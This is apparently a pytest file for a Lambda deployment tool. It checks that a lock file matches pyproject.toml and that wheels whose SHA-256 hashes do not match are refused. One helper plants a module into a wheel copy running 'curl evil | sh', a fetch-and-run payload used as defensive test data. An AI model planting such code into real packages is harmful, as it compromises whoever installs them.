"""The Lambda lock file: in step with pyproject.toml, and no wheel packaged unless it hashes as locked."""

from __future__ import annotations

import os
import shutil
import tomllib
import zipfile
from pathlib import Path

import pytest
from packaging.requirements import Requirement

from ops.deploy.errors import BundleError, WheelHashMismatch
from ops.deploy.infra import load_template
from ops.deploy.lock import LOCK_PATH, Lock, check_lock, parse_lock, read_lock, render_lock
from ops.deploy.requirements import PROVIDED_BY_LAMBDA, Pin, normalize, runtime_pins
from ops.deploy.target import LambdaTarget, target_of_template
from ops.deploy.wheels import ensure_wheels, find_cached

TARGET = target_of_template(load_template())
LOCK = read_lock()
TENACITY = Pin("tenacity", "9.2.1")
PYPROJECT = Path(__file__).resolve().parents[3] / "pyproject.toml"


def test_the_lock_pins_every_dependency_pyproject_declares_at_its_version() -> None:
    with PYPROJECT.open("rb") as handle:
        declared = [Requirement(text) for text in tomllib.load(handle)["project"]["dependencies"]]
    assert declared
    left_to_lambda = {normalize(name) for name in PROVIDED_BY_LAMBDA}
    for requirement in declared:
        (specifier,) = requirement.specifier  # pyproject pins each dependency exactly
        name = normalize(requirement.name)
        if name in left_to_lambda:
            assert not [pin for pin in LOCK.pins if pin.name == name]
        else:
            assert Pin(name, specifier.version) in LOCK.hashes, requirement


def test_the_lock_names_exactly_what_this_install_runs_on_the_templates_target() -> None:
    check_lock(LOCK, runtime_pins(TARGET), TARGET)  # what every build checks first
    assert LOCK.pins == runtime_pins(TARGET)
    assert LOCK.target == "python3.11 x86_64 (manylinux2014_x86_64)"
    for pin, hashes in LOCK.hashes.items():
        assert len(hashes) == 1, pin  # the one wheel of the Lambda platform
        assert all(len(digest) == 64 for digest in hashes), pin


def test_the_lock_file_is_exactly_what_the_generator_writes() -> None:
    # nobody edited it by hand: regenerate with `python -m ops.deploy.lock`
    assert render_lock(TARGET, LOCK.hashes) == LOCK_PATH.read_text(encoding="utf-8")


def test_a_lock_that_no_longer_matches_the_install_is_refused_naming_the_difference() -> None:
    hashes = dict(LOCK.hashes)
    hashes[Pin("pydantic", "2.0.0")] = hashes.pop(Pin("pydantic", "2.14.3"))
    with pytest.raises(BundleError) as failure:
        check_lock(Lock(LOCK.target, hashes), runtime_pins(TARGET), TARGET)
    message = str(failure.value)
    assert "+pydantic==2.14.3" in message and "-pydantic==2.0.0" in message
    assert "python -m ops.deploy.lock" in message


def test_a_lock_for_another_platform_is_refused() -> None:
    arm = LambdaTarget((3, 11), "arm64")
    with pytest.raises(BundleError, match=r"the lock file is for python3\.11 x86_64"):
        check_lock(LOCK, runtime_pins(arm), arm)


@pytest.mark.parametrize(
    ("text", "complaint"),
    [
        ("# target: t\ntenacity==9.2.1\n", "--hash=sha256"),
        ("# target: t\ntenacity==9.2.1 --hash=md5:abc\n", "--hash=sha256"),
        ("# target: t\ntenacity>=9 \\\n    --hash=sha256:" + "a" * 64 + "\n", "exact pin"),
        ("tenacity==9.2.1 --hash=sha256:" + "a" * 64 + "\n", "target"),
    ],
)
def test_a_malformed_lock_is_refused(text: str, complaint: str) -> None:
    with pytest.raises(BundleError, match=complaint):
        parse_lock(text, "test.lock")


def _tampered_copy(wheel: Path, folder: Path) -> Path:
    """The same wheel, name and all, with one module added: still a valid wheel, other bytes."""
    folder.mkdir(parents=True, exist_ok=True)
    copy = folder / wheel.name
    shutil.copy2(wheel, copy)
    with zipfile.ZipFile(copy, "a") as archive:
        archive.writestr("tenacity/_planted.py", "import os; os.system('curl evil | sh')\n")
    return copy


@pytest.fixture()
def tenacity_wheel(wheel_cache: Path) -> Path:
    """The locked tenacity wheel, from the build's cache (filled once from PyPI)."""
    (wheel,) = ensure_wheels([TENACITY], wheel_cache, TARGET, LOCK)
    return wheel.path


@pytest.fixture()
def offline_pip(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """pip sees no index and no pip.conf, only the --find-links directory this returns."""
    links = tmp_path / "links"
    links.mkdir()
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    monkeypatch.setenv("PIP_FIND_LINKS", str(links))
    return links


def test_a_tampered_wheel_in_the_cache_is_refused(tenacity_wheel: Path, tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    planted = _tampered_copy(tenacity_wheel, cache)
    with pytest.raises(WheelHashMismatch) as failure:
        ensure_wheels([TENACITY], cache, TARGET, LOCK)
    message = str(failure.value)
    assert str(planted) in message and "tenacity==9.2.1" in message
    assert "not packaged" in message


def test_pip_refuses_a_tampered_wheel_it_is_offered(
    tenacity_wheel: Path, tmp_path: Path, offline_pip: Path
) -> None:
    _tampered_copy(tenacity_wheel, offline_pip)
    cache = tmp_path / "cache"
    with pytest.raises(WheelHashMismatch, match="does not match the lock file's SHA-256"):
        ensure_wheels([TENACITY], cache, TARGET, LOCK)
    assert find_cached([TENACITY], cache, TARGET) == {}  # nothing kept from the refused download


def test_pip_fetches_the_locked_wheel_with_require_hashes(
    tenacity_wheel: Path, tmp_path: Path, offline_pip: Path
) -> None:
    shutil.copy2(tenacity_wheel, offline_pip / tenacity_wheel.name)
    (wheel,) = ensure_wheels([TENACITY], tmp_path / "cache", TARGET, LOCK)
    assert wheel.path.parent == tmp_path / "cache"
    assert wheel.path.read_bytes() == tenacity_wheel.read_bytes()
